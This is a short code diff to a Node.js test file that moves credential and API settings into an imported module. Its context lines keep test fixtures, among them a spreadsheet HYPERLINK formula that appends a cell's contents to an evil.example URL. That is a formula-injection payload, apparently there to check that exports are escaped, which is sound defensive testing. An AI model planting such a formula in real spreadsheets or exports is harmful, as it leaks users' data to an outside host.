@@ -6,14 +6,8 @@ import { join } from "node:path";
 import { after, before, test } from "node:test";
 import { launch, open, picture, sound } from "./browser.mjs";
 import { Client } from "./client.mjs";
+import { apiUrl, base, credentials, organizationId, root, rootUserId, scratch } from "./setting.mjs";
 import { makeOpenKey } from "./stamp.mjs";
-
-const credentials = JSON.parse(readFileSync(process.env.CLOISTER_CREDENTIALS));
-const { organizationId, rootUserId } = credentials;
-const apiUrl = process.env.CLOISTER_URL;
-const base = `${apiUrl}/dashboard/`;
-const root = new Client({ apiUrl, organizationId, ...credentials.rootApiKey });
-const scratch = new URL(".", import.meta.url).pathname;
 
 const formula = `=HYPERLINK("https://evil.example/?x="&A1,"Click, please")`;
 const notes = `+41 "quoted", and\r\na second line\nand 'a third'`;
